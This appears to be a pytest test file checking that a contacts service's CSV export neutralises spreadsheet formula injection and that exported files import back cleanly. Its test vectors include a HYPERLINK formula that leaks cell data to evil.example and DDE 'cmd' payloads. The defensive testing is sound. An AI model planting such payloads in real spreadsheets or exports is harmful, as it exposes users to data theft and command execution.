"""CSV export: every cell is safe to open in a spreadsheet (OWASP CSV injection)."""

import csv
import io
import uuid

import pytest

from pytake_contacts.csv_cells import neutralize, restore

from .helpers import create_contact, deliver, received

#: Each vector OWASP lists, and the same after blanks or quotes a spreadsheet may skip.
VECTORS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    "\n-1",
]


@pytest.mark.parametrize("value", VECTORS)
def test_each_vector_is_prefixed_and_restored(value):
    safe = neutralize(value)
    assert safe == "'" + value
    assert restore(safe) == value


@pytest.mark.parametrize("value", ["Maria", "", "'quoted'", "a=b", "x-1", "55 11", "1.5"])
def test_harmless_text_is_left_alone(value):
    assert neutralize(value) == value and restore(value) == value


async def test_every_column_of_the_export_is_neutralised(app, client, org, agent, admin):
    for key in ("plan", "score"):
        kind = "text" if key == "plan" else "number"
        r = await client.post(
            "/v1/contact-attributes", json={"key": key, "label": key, "type": kind}, headers=admin
        )
        assert r.status_code == 201, r.text
    formula = '=HYPERLINK("http://evil.example","x")'
    mine = await create_contact(
        client,
        agent,
        phone="+5511987650001",
        name="+cmd|' /C calc'!A0",
        company="-2+3",
        notes="@SUM(A1)",
        attributes={"plan": formula, "score": -5},
    )
    tag = (await client.post("/v1/tags", json={"name": "=1+1"}, headers=admin)).json()
    r = await client.put(f"/v1/contacts/{mine['id']}/tags/{tag['id']}", headers=agent)
    assert r.status_code in (200, 204), r.text
    # A customer's WhatsApp profile name arrives by the gateway's event, not the API.
    await deliver(app, received(org, wa_id="5511987650002", name=' -1+1 "profile"'))

    r = await client.get("/v1/contacts/export", headers=agent)
    assert r.status_code == 200, r.text
    lines = r.text.splitlines()
    assert all(line.startswith('"') and line.endswith('"') for line in lines)  # quoted fields
    exported = {e["phone"]: e for e in csv.DictReader(io.StringIO(r.text))}
    assert set(exported) == {"'+5511987650001", "'+5511987650002"}
    typed = exported["'+5511987650001"]
    assert typed["name"] == "'+cmd|' /C calc'!A0"
    assert typed["company"] == "'-2+3"
    assert typed["notes"] == "'@SUM(A1)"
    assert typed["tags"] == "'=1+1"
    assert typed["attributes.plan"] == "'" + formula
    assert typed["attributes.score"] == "'-5"
    # The name is stored whitespace-collapsed; its leading blank would not hide the minus.
    assert exported["'+5511987650002"]["name"] == '\'-1+1 "profile"'
    # No cell of the file can start a formula in a spreadsheet.
    for record in csv.reader(io.StringIO(r.text)):
        for value in record:
            assert value == neutralize(value) or value.startswith("'"), value
            assert value[:1] not in "=+-@\t\r" or value == "", value

    # The file imports back unchanged: the quote prefixes are dropped again.
    text = "phone,name,company,notes,attributes.plan,attributes.score\n" + "".join(
        ",".join(
            '"' + typed[c].replace('"', '""') + '"'
            for c in ("phone", "name", "company", "notes", "attributes.plan", "attributes.score")
        )
        + "\n"
        for _ in [0]
    )
    r = await client.post(
        "/v1/contacts/import", content=text, headers=agent | {"Content-Type": "text/csv"}
    )
    assert r.status_code == 200, r.text
    assert r.json()["failed"] == [] and r.json()["unchanged"] == 1, r.json()


async def test_an_exported_file_imports_as_is_into_another_organization(client, tokens, agent):
    """The export's own columns (id, wa_id, marketing_opt_in, blocked, assignee_id,
    timestamps, tags) used to make the import refuse the file as a whole."""
    people = [
        {"phone": "+5511987650101", "name": "=Ana", "email": "ana@example.com"},
        {"phone": "+5511987650102", "name": "Bruno", "company": "-Acme", "notes": "a, b"},
        {"phone": "+14155550103", "name": "Carla", "job_title": "CTO", "language": "en"},
    ]
    for person in people:
        await create_contact(client, agent, **person)
    exported = await client.get("/v1/contacts/export", headers=agent)
    assert exported.status_code == 200, exported.text
    header = next(csv.reader(io.StringIO(exported.text)))
    assert {"id", "wa_id", "marketing_opt_in", "blocked", "tags"} <= set(header)

    other = tokens.headers(organization_id=uuid.uuid4(), role="agent")
    r = await client.post(
        "/v1/contacts/import",
        content=exported.content,
        headers=other | {"Content-Type": "text/csv"},
    )
    assert r.status_code == 200, r.text
    assert (r.json()["created"], r.json()["failed"]) == (3, [])

    fields = ("phone", "name", "email", "company", "job_title", "notes", "language", "wa_id")

    def book(items):
        return sorted(tuple(c[f] for f in fields) for c in items)

    mine = (await client.get("/v1/contacts", headers=agent)).json()["items"]
    theirs = (await client.get("/v1/contacts", headers=other)).json()["items"]
    assert book(theirs) == book(mine)
    assert {c["id"] for c in theirs}.isdisjoint({c["id"] for c in mine})
    # the same file again changes nothing
    again = await client.post(
        "/v1/contacts/import",
        content=exported.content,
        headers=other | {"Content-Type": "text/csv"},
    )
    assert again.json()["unchanged"] == 3, again.json()


async def test_an_unknown_column_is_still_refused(client, agent):
    r = await client.post(
        "/v1/contacts/import",
        content="phone,nickname\n+5511987650109,x\n",
        headers=agent | {"Content-Type": "text/csv"},
    )
    assert r.status_code == 422, r.text
    assert r.json()["column"] == "nickname"
